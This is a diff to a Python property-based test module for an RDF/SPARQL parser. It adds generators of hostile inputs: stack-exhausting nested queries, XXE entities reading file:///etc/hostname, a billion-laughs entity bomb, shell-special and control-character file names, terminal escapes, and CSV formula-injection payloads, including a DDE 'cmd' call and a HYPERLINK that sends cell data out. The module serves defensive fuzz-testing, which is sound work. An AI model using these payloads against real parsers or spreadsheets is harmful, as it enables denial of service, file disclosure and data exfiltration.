@@ -166,3 +166,141 @@ def rdf_bytes(fmt: str) -> st.SearchStrategy[bytes]:
         return bytes(data)
 
     return st.one_of(mutated(), st.binary(max_size=200), st.just(valid))
+
+
+# ---------------------------------------------------------------- hostile input classes of issue 17
+# (nesting depth, entity declarations, file names, control characters, spreadsheet formulas)
+
+#: How a SPARQL query nests: (opening, one level's closing) around a core, per kind.
+SPARQL_NESTINGS = {
+    "group": ("SELECT * WHERE ", "{", "}", ""),
+    "filter": ("SELECT * WHERE { FILTER", "(", ")", "true"),
+    "optional": ("SELECT * WHERE { ?s ?p ?o ", "OPTIONAL { ?s ?p ?o ", "}", ""),
+    "subselect": ("SELECT * WHERE ", "{ SELECT * WHERE ", "}", "{ }"),
+    "path": ("SELECT * WHERE { ?s ", "(", ")", "rdfs:label"),
+    "blank-node": ("SELECT * WHERE { ?s ?p ", "[ ?p ", "]", "?o"),
+    "expression": ("SELECT (", "(", ")", "1"),
+}
+
+
+def nested_query(kind: str, depth: int) -> str:
+    """A SPARQL query nested ``depth`` levels deep in one of the :data:`SPARQL_NESTINGS` ways.
+
+    >>> nested_query("group", 2)
+    'SELECT * WHERE {{}}'
+    >>> nested_query("filter", 1)
+    'SELECT * WHERE { FILTER(true) }'
+    """
+    head, opening, closing, core = SPARQL_NESTINGS[kind]
+    tail = {"group": "", "subselect": "", "expression": " AS ?x) WHERE { }", "blank-node": " }"}.get(kind, " }")
+    if kind == "path":
+        tail = " ?o }"
+    return head + opening * depth + core + closing * depth + tail
+
+
+#: Nesting depths: shallow ones every parser takes, and deep ones that exhaust a recursive parser's stack.
+nesting_depths = st.one_of(st.integers(1, 50), st.sampled_from([500, 2_000, 5_000, 20_000]))
+
+
+@st.composite
+def nested_queries(draw, depths: st.SearchStrategy[int] = nesting_depths) -> str:
+    """A query nested at any depth in any of the ways SPARQL nests."""
+    return nested_query(draw(st.sampled_from(sorted(SPARQL_NESTINGS))), draw(depths))
+
+
+@st.composite
+def nested_json(draw, depths: st.SearchStrategy[int] = nesting_depths) -> str:
+    """A JSON value nested ``depth`` arrays or objects deep (a claim line, an OBO Graph document)."""
+    depth = draw(depths)
+    if draw(st.booleans()):
+        return "[" * depth + "]" * depth
+    return '{"a":' * depth + "1" + "}" * depth
+
+
+@st.composite
+def entity_documents(draw) -> str:
+    """An RDF/XML document whose DTD declares entities: internal, nested (a small billion laughs),
+    external (a file or a URL), parameter entities, used in text or in an attribute.
+
+    Every one is small enough to expand harmlessly; a parser that refuses DTD entities refuses each.
+    """
+    kind = draw(st.sampled_from(["internal", "nested", "external-file", "external-url", "parameter", "attribute"]))
+    width, depth = draw(st.integers(1, 3)), draw(st.integers(1, 3))
+    declarations = ['<!ENTITY e0 "lol">']
+    use = "&e0;"
+    if kind == "nested":
+        declarations += [f'<!ENTITY e{i} "{f"&e{i - 1};" * width}">' for i in range(1, depth + 1)]
+        use = f"&e{depth};"
+    elif kind == "external-file":
+        declarations = ['<!ENTITY e0 SYSTEM "file:///etc/hostname">']
+    elif kind == "external-url":
+        declarations = ['<!ENTITY e0 SYSTEM "http://127.0.0.1:9/entity">']
+    elif kind == "parameter":
+        declarations = ['<!ENTITY % p "<!ENTITY e0 \'lol\'>">', "%p;"]
+    text_use, attribute_use = (use, "x") if kind != "attribute" else ("x", use)
+    return (
+        '<?xml version="1.0"?>\n'
+        f"<!DOCTYPE rdf:RDF [\n  {chr(10).join(declarations)}\n]>\n"
+        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/">\n'
+        f'  <rdf:Description rdf:about="http://example.org/a" ex:q="{attribute_use}"><ex:p>{text_use}</ex:p></rdf:Description>\n'
+        "</rdf:RDF>\n"
+    )
+
+
+def billion_laughs(levels: int = 9, width: int = 10) -> str:
+    """The classic entity bomb as RDF/XML: under 1 KB, ``width ** levels`` copies of "lol" expanded."""
+    declarations = ['<!ENTITY e0 "lol">'] + [f'<!ENTITY e{i} "{f"&e{i - 1};" * width}">' for i in range(1, levels + 1)]
+    return (
+        '<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [\n  ' + "\n  ".join(declarations) + "\n]>\n"
+        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/">\n'
+        f'  <rdf:Description rdf:about="http://example.org/a"><ex:p>&e{levels};</ex:p></rdf:Description>\n'
+        "</rdf:RDF>\n"
+    )
+
+
+#: Characters a file name may hold that an IRI, a shell, a CSV cell or a terminal may not.
+FILE_NAME_TROUBLE = (
+    " ", "  ", "#", "%", "%20", "?", "&", '"', "'", "<", ">", "{", "}", "|", "\\", "^", "`", "[", "]", ";", ",",
+    "=", "+", "@", "$", "!", "*", ":", "~", "é", "\u00a0", "\u200b", "\u202e", "日本", "\U0001f9ec", "\t", "\n",
+    "\r", "\x1b[31m", "\x7f", "-", "--", ".", "..",
+)  # fmt: skip
+
+
+@st.composite
+def hostile_file_names(draw, max_size: int = 60) -> str:
+    """A file name (no folder part) the file system accepts and a careless program does not: white
+    space, IRI and shell specials, percent signs, non-ASCII and bidi characters, control characters."""
+    pieces = draw(st.lists(st.one_of(st.sampled_from(FILE_NAME_TROUBLE), st.text("abcXYZ019_", min_size=1, max_size=4)),
+                           min_size=1, max_size=6))  # fmt: skip
+    name = "".join(pieces)[:max_size].replace("/", "_").replace("\x00", "_")
+    if name in ("", ".", ".."):
+        name = "x" + name
+    return name
+
+
+#: Control characters and terminal escape sequences: C0, DEL, C1 (CSI is U+009B), ANSI colour and
+#: cursor sequences, an OSC hyperlink, a title change, a bidi override.
+CONTROL_PIECES = (
+    "\x1b[31m", "\x1b[0m", "\x1b[2J", "\x1b]0;owned\x07", "\x1b]8;;http://example.org/\x1b\\link\x1b]8;;\x1b\\",
+    "\x07", "\x08", "\r", "\x0b", "\x0c", "\x00", "\x7f", "\x9b31m", "\x85", "\u202e",
+)  # fmt: skip
+
+
+@st.composite
+def control_text(draw, max_pieces: int = 6) -> str:
+    """Text that holds at least one control character or terminal escape among ordinary words."""
+    pieces = draw(st.lists(st.one_of(st.sampled_from(CONTROL_PIECES), st.text("abc XYZ19", max_size=5)),
+                           max_size=max_pieces))  # fmt: skip
+    return "".join(pieces) + draw(st.sampled_from(CONTROL_PIECES))
+
+
+#: Leading characters that make a spreadsheet read a CSV cell as a formula (OWASP's list).
+FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@st.composite
+def formula_cells(draw) -> str:
+    """A cell a spreadsheet would run: a formula lead character, then a payload."""
+    payload = draw(st.sampled_from(['HYPERLINK("http://example.org/?x="&A1,"click")', "1+1", "cmd|' /C calc'!A0",
+                                    "SUM(A1:A9)", "2+5+cmd|' /C calc'!A0", "A1"]))  # fmt: skip
+    return draw(st.sampled_from(FORMULA_LEADS)) + payload
